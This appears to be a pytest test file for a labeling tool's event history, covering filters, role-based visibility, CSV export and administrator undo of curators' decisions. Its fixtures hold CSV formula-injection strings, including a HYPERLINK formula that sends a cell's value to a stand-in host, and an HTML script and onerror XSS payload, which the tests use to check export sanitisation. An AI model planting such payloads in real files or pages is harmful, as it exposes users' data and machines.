"""Every event is found again by what it is about, shown to those who may see it, exported as plain text, and can be taken back."""

import csv
import io
import json
import uuid
from datetime import UTC, date, datetime, timedelta

import pandas as pd
import pytest
from click.testing import CliRunner, Result

from data import catalogue, sheets, versions
from data.errors import BadInput, NotAllowed, UnknownSample
from data.exports.whole import export
from data.report import Report
from data.workspace import Workspace
from labeling import cards, decisions, history, policy, refused, team
from labeling.__main__ import main
from labeling.history import EVERYBODY, Filters, Viewer
from labeling.policy import Policy

FIELDS, WHEAT, BARLEY = "bavaria-2018", 115, 131
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.invalid?"&A1,"see")', "  =1+1", "\0=1+1"]
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)> **bold** $x^2$ :red[x]"


@pytest.fixture
def world(demo) -> Workspace:
    """A team: ada administers, rev reviews, ann and bob are curators; nobody looks again unless a test asks for it."""
    for name, role in (("ada", "administrator"), ("rev", "reviewer"), ("ann", "curator"), ("bob", "curator")):
        team.add(demo.store, name, role=role)
    policy.write(demo.store, FIELDS, Policy(second_share=0.0))
    return demo


def samples(workspace: Workspace) -> list[str]:
    with workspace.store.reading() as db:
        return [row["name"] for row in db.execute("select name from sample where collection = ? order by name", [FIELDS])]


def say(workspace: Workspace, sample: str, action: str, *, curator: str = "ann", **values) -> str:
    """Decide, having seen what is in force; returns the uid."""
    number = catalogue.sample_id(workspace.store, FIELDS, sample)
    now = cards.states(workspace.store, [number])[number]["decision"]
    event = {"uid": str(uuid.uuid4()), "sample": number, "name": sample, "action": action, "seen": now and now["uid"]} | values
    (outcome,) = decisions.record(workspace.store, FIELDS, curator, [event])
    assert outcome.stored, outcome
    return event["uid"]


def dated(workspace: Workspace, sample: str, at: str, **values) -> None:
    """An event of another day, as the store would have written it then."""
    row = {"uid": str(uuid.uuid4()), "curator": "ann", "action": "flag", "stands": 1, "at": at} | values
    with workspace.store.writing() as db:
        db["event"].insert(row | {"sample": catalogue.sample_id(workspace.store, FIELDS, sample)})


def uids(workspace: Workspace, filters: Filters, who: Viewer = EVERYBODY) -> list[str]:
    return [event["uid"] for event in history.events(workspace.store, FIELDS, filters, who)]


def code(workspace: Workspace, sample: str) -> tuple:
    label = next(label for label in versions.labels_at(workspace.store, FIELDS, versions.ANY_EVENT) if label.name == sample)
    return label.code, label.state


def call(*arguments: str) -> Result:
    return CliRunner().invoke(main, ["history", *arguments])


# Finding


@pytest.fixture
def told(world) -> Workspace:
    """Twenty-four events of many kinds."""
    names = samples(world)
    for number, name in enumerate(names[:10]):
        action = ("agree", "unsure", "flag", "relabel")[number % 4]
        values = {"code": BARLEY} if action == "relabel" else {}
        say(world, name, action, curator=("ann", "bob", "rev")[number % 3], kind=("audit", "suspects")[number % 2], **values)
    for name in names[:4]:
        say(world, name, "reject", reason="mixed", curator="bob", note=f"Edge of {name}, 50% wheat_x", queue="random")
    for name in names[4:8]:
        say(world, name, "undo", curator="bob", undo_of=say(world, name, "flag", curator="bob"))
    dated(world, names[0], "2026-03-01T23:59:59.999+00:00")
    dated(world, names[0], "2026-03-02T00:00:00.000+00:00", curator="bob")
    return world


@pytest.mark.parametrize(
    ("filters", "fits"),
    [
        (Filters(), lambda event: True),
        (Filters(curator="BOB"), lambda event: event["curator"] == "bob"),
        (Filters(action="reject"), lambda event: event["action"] == "reject"),
        (Filters(kind="audit"), lambda event: event["kind"] == "audit"),
        (Filters(kind="random"), lambda event: (event["queue"] or "").startswith("random")),
        (Filters(look="first"), lambda event: event["look"] == "first"),
        (Filters(words="EDGE wheat"), lambda event: "Edge" in (event["note"] or "")),
        (Filters(words="50% wheat_x"), lambda event: "50% wheat_x" in (event["note"] or "")),
        (Filters(words="wheatzx"), lambda event: False),
        (Filters(words="0%e"), lambda event: False),
        (Filters(undone=True), lambda event: event["undone"] == 1),
        (Filters(undone=False), lambda event: event["undone"] == 0),
        (Filters(since=12), lambda event: event["id"] >= 12),
        (Filters(first_day=date(2026, 3, 1), last_day=date(2026, 3, 1)), lambda event: event["at"].startswith("2026-03-01")),
        (Filters(last_day=date(2026, 3, 2)), lambda event: event["at"].startswith("2026-03-0")),
        (Filters(curator="bob", action="flag", undone=True), lambda event: event["curator"] == "bob" and event["undone"] == 1),
    ],
    ids=str,
)
def test_a_filter_gives_the_events_that_it_says_and_no_other(told, filters, fits):
    wanted = [event["uid"] for event in decisions.events(told.store, FIELDS) if fits(event)][::-1]
    assert uids(told, filters) == wanted and history.count(told.store, FIELDS, filters, EVERYBODY) == len(wanted)
    assert wanted or filters.words in ("wheatzx", "0%e")


def test_pages_of_events_go_on_where_the_last_one_ended_while_new_ones_come(told):
    whole = uids(told, Filters())
    found, before = [], None
    while page := history.events(told.store, FIELDS, Filters(), EVERYBODY, before=before, count=7):
        found += [event["uid"] for event in page]
        before = page[-1]["id"]
        say(told, samples(told)[15], "flag")
    assert found == whole


def test_the_events_of_another_collection_are_not_among_them(told):
    assert history.count(told.store, "bavaria-parcels-2018", Filters(), EVERYBODY) == 0


# Who sees what


def control(workspace: Workspace, sample: str, curator: str) -> None:
    number = catalogue.sample_id(workspace.store, FIELDS, sample)
    with workspace.store.writing() as db:
        db["control"].insert({"sample": number, "curator": curator, "truth": WHEAT, "shown": BARLEY, "placed": "2026-01-01"})


def test_answers_to_controls_are_for_reviewers_and_administrators(world):
    control(world, "D2-2018", "ann")
    say(world, "D2-2018", "agree", shown=BARLEY)
    number = catalogue.sample_id(world.store, FIELDS, "D2-2018")
    for name, seen in (("ann", 0), ("bob", 0), ("nobody", 0), ("rev", 1), ("ADA", 1)):
        who = history.viewer(world.store, name)
        told = history.story(world.store, FIELDS, number, who)
        assert (history.count(world.store, FIELDS, Filters(), who), len(told.events), len(told.controls)) == (seen, seen, seen)
        assert (history.table(world.store, FIELDS, Filters(), who).count("\n"), told.hidden) == (1 + seen, 1 - seen)
    assert told.controls[0] | {"at": ""} == {
        "at": "", "curator": "ann", "look": "control", "truth": WHEAT, "shown": BARLEY, "verdict": str(BARLEY),
    }  # fmt: skip


def test_the_first_answer_is_kept_from_curators_until_the_second_is_given(world):
    policy.write(world.store, FIELDS, Policy(second_share=1.0))
    say(world, "D2-2018", "agree", curator="ann")
    number = catalogue.sample_id(world.store, FIELDS, "D2-2018")
    ann, bob, rev = (history.viewer(world.store, name) for name in ("ann", "bob", "rev"))
    assert [len(uids(world, Filters(), who)) for who in (ann, bob, rev)] == [1, 0, 1]
    assert history.hidden(world.store, FIELDS, Filters(), bob) == 1
    assert history.story(world.store, FIELDS, number, bob).review is None
    say(world, "D2-2018", "agree", curator="bob", look="second")
    assert len(uids(world, Filters(), bob)) == 2
    assert history.story(world.store, FIELDS, number, bob).review["state"] == "agreed"


def test_a_story_is_told_from_its_beginning(world):
    first = say(world, "D2-2018", "agree")
    second = say(world, "D2-2018", "relabel", code=BARLEY, curator="bob", note=HTML)
    third = say(world, "D2-2018", "undo", undo_of=second, curator="bob")
    told = history.story(world.store, FIELDS, catalogue.sample_id(world.store, FIELDS, "D2-2018"), EVERYBODY)
    assert [event["uid"] for event in told.events] == [first, second, third]
    assert [event["undone"] for event in told.events] == [0, 1, 0] and told.events[1]["note"] == HTML
    with pytest.raises(UnknownSample):
        history.story(world.store, FIELDS, 10**6, EVERYBODY)


def test_a_day_of_a_curator_is_counted(told):
    names = samples(told)
    for number, name in enumerate(names[12:15]):
        say(told, name, "agree", ms=1000 * (number + 1) ** 2)
    today = datetime.now(UTC).date()
    found = history.day(told.store, FIELDS, "Ann", today, EVERYBODY)
    assert (found.events, found.by_action, found.samples, found.seconds) == (7, {"agree": 4, "unsure": 1, "flag": 1, "relabel": 1}, 7, 4.0)
    assert found.first <= found.last and found.undone == 0
    assert history.day(told.store, FIELDS, "bob", today, EVERYBODY).undone == 4
    empty = history.day(told.store, FIELDS, "ann", today - timedelta(days=1), EVERYBODY)
    assert (empty.events, empty.first, empty.seconds) == (0, None, None)


def test_decisions_are_counted_by_day_and_curator(told):
    events = [event for event in decisions.events(told.store, FIELDS) if event["action"] in decisions.DECIDING]
    wanted = pd.DataFrame(events).assign(day=lambda frame: frame["at"].str[:10]).groupby(["day", "curator"]).size()
    found = {(row["day"], row["curator"]): row["decisions"] for row in history.per_day(told.store, FIELDS)}
    assert found == wanted.to_dict()


# As a table


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_with_a_quote_in_front(text):
    assert sheets.harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["wheat", "a=b", "", "1+1", "'=1", -5, -0.5, True, None])
def test_other_cells_stay_as_they_are(value):
    assert sheets.harmless(value) == value


def dangerous(cell: str) -> bool:
    return cell.strip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r", "\0")


def test_exported_notes_come_back_as_text_and_run_nothing(world):
    notes = [*FORMULAS, HTML, 'a "quoted", line\nand another', "a\r=1+1", "a\n=1+1", 'a"\n=1+1', "x" * 100_000]
    for name, note in zip(samples(world), notes, strict=False):
        say(world, name, "flag", note=note)
    text = history.table(world.store, FIELDS, Filters(), EVERYBODY)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    stored = [event["note"] for event in decisions.events(world.store, FIELDS)][::-1]
    assert [row["note"].removeprefix("'") for row in rows] == stored and len(rows) == len(notes)
    assert not [cell for row in rows for cell in row.values() if dangerous(cell)]
    table = pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    assert not [cell for cell in table.to_numpy().ravel() if dangerous(cell)]
    assert list(table.columns) == list(history.COLUMNS) and table["note"].str.len().max() == 100_000


def test_a_published_table_runs_no_formula_either(world, tmp_path):
    say(world, "D2-2018", "relabel", code=BARLEY, note=FORMULAS[6])
    export(world, FIELDS, tmp_path / "out", "csv", version=None, report=Report(), tell=lambda *_: None)
    table = pd.read_csv(tmp_path / "out" / f"{FIELDS}.csv").set_index("sample")
    assert table.loc["D2-2018", "note"] == f"'{FORMULAS[6]}"


# Taking back


def test_an_administrator_takes_back_what_another_said_beyond_the_last_twenty(world):
    names = samples(world)
    first = say(world, names[0], "relabel", code=BARLEY)
    for name in names[1:]:
        say(world, name, "flag")
    for name in names[1:]:
        say(world, name, "flag")
    (outcome,) = history.take_back(world.store, FIELDS, [first], by="ADA", note="wrong field")
    assert outcome.stored and code(world, names[0])[1] == "unverified"
    newest = history.events(world.store, FIELDS, Filters(), EVERYBODY, count=1)[0]
    assert (newest["curator"], newest["action"], newest["note"]) == ("ada", "undo", "wrong field")


@pytest.mark.parametrize("name", ["ann", "rev", "nobody"])
def test_nobody_else_takes_back_what_another_said(world, name):
    uid = say(world, "D2-2018", "relabel", code=BARLEY, curator="bob")
    with pytest.raises(NotAllowed, match="administrator"):
        history.take_back(world.store, FIELDS, [uid], by=name)
    assert code(world, "D2-2018") == (BARLEY, "relabelled")


def test_all_of_a_curator_since_an_event_goes_and_the_labels_are_as_before(world):
    names = samples(world)
    for name in names[:5]:
        say(world, name, "agree", curator="ann")
    before = versions.current(world.store, FIELDS)
    since = before.event + 1
    for name in names[:5]:
        say(world, name, "relabel", code=BARLEY if name != names[0] else WHEAT, curator="bob")
        say(world, name, "flag", curator="bob")
    say(world, names[9], "unsure", curator="ann")
    planned = history.plan(world.store, FIELDS, Filters(curator="bob", since=since))
    assert (len(planned.uids), planned.samples, planned.labels, planned.curators) == (10, 5, 5, {"bob": 10})
    outcomes = history.take_back(world.store, FIELDS, planned.uids, by="ada")
    assert all(outcome.stored for outcome in outcomes)
    after = {label.name: (label.code, label.state, label.flagged) for label in versions.labels_at(world.store, FIELDS, versions.ANY_EVENT)}
    earlier = {label.name: (label.code, label.state, label.flagged) for label in versions.labels_at(world.store, FIELDS, before.event)}
    assert {name for name in after if after[name] != earlier[name]} == {names[9]}
    assert history.plan(world.store, FIELDS, Filters(curator="bob", since=since)).uids == ()


def test_a_plan_leaves_answers_to_controls_alone(world):
    control(world, "D2-2018", "ann")
    say(world, "D2-2018", "agree", shown=BARLEY)
    other = say(world, samples(world)[0], "agree")
    assert history.plan(world.store, FIELDS, Filters(curator="ann")).uids == (other,)


def test_what_was_undone_meanwhile_is_told_and_the_rest_goes(world):
    one, other = say(world, samples(world)[0], "flag"), say(world, samples(world)[1], "flag")
    say(world, samples(world)[0], "undo", undo_of=one)
    first, second = history.take_back(world.store, FIELDS, [one, other], by="ada")
    assert not first.stored and "undone already" in first.error and second.stored


def test_an_event_that_is_not_there_takes_nothing_back(world):
    uid = say(world, "D2-2018", "flag")
    with pytest.raises(BadInput, match="Nothing was taken back"):
        history.take_back(world.store, FIELDS, [uid, "no such"], by="ada")
    assert len(uids(world, Filters())) == 1


# Refused decisions


def refuse(workspace: Workspace, uid: str, **values) -> None:
    event = {"uid": uid, "sample": 10**6, "name": "D2-2018", "action": "relabel", "code": BARLEY, "note": "=1+1", "seen": None} | values
    outcomes = decisions.record(workspace.store, FIELDS, "ann", [event])
    decisions.keep_refused(workspace.store, FIELDS, "ann", [event], outcomes)


def test_a_refused_decision_is_stored_on_the_sample_that_bears_its_name_now(world):
    refuse(world, "r1")
    assert [(one.uid, one.curator) for one in refused.listing(world.store, FIELDS)] == [("r1", "ann")]
    assert refused.try_again(world.store, "r1").stored
    assert code(world, "D2-2018") == (BARLEY, "relabelled") and refused.listing(world.store) == []
    assert uids(world, Filters(curator="ann")) == ["r1"]


def test_a_refused_decision_that_fails_again_stays_with_the_new_error(world):
    refuse(world, "r1", code=99)
    assert not refused.try_again(world.store, "r1").stored
    (left,) = refused.listing(world.store)
    assert "Code 99 is not in the legend" in left.error and left.said["code"] == 99
    with pytest.raises(UnknownSample):
        refuse(world, "r2", name="gone")
        refused.try_again(world.store, "r2")
    assert len(refused.listing(world.store)) == 2


def test_refused_decisions_are_exported_whole_and_dropped_by_an_administrator(world):
    refuse(world, "r1")
    (row,) = csv.DictReader(io.StringIO(refused.table(world.store, FIELDS)))
    assert row["note"] == "'=1+1" and json.loads(row["said"])["code"] == BARLEY and row["error"]
    with pytest.raises(NotAllowed):
        refused.drop(world.store, "r1", by="rev")
    refused.drop(world.store, "r1", by="ada")
    with pytest.raises(BadInput, match="no refused decision 'r1'"):
        refused.drop(world.store, "r1", by="ada")


# Commands


def test_the_commands_find_export_and_take_back(told, tmp_path):
    found = json.loads(call("find", "--collection", FIELDS, "--curator", "bob", "--action", "reject", "--json").stdout)
    assert found["count"] == 4 == len(found["newest"])
    call("find", "--collection", FIELDS, "--action", "reject", "--csv", str(tmp_path / "events.csv"))
    assert len(pd.read_csv(tmp_path / "events.csv")) == 4
    options = ("take-back", "--collection", FIELDS, "--curator", "bob", "--action", "reject", "--by", "ada")
    planned = call(*options)
    assert "4 events on 4 samples; 4 labels in force would change. Do it with --yes." in planned.stdout
    assert json.loads(call(*options, "--yes", "--note", "all wrong", "--json").stdout)["done"] == 4
    assert json.loads(call("find", "--collection", FIELDS, "--words", "all wrong", "--json").stdout)["count"] == 4


def test_the_command_tries_refused_decisions_again(world):
    assert "No decision was refused." in call("refused").stdout
    refuse(world, "r1")
    assert "r1" in call("refused").stdout
    assert "r1: stored" in call("refused", "--again", "r1").stdout
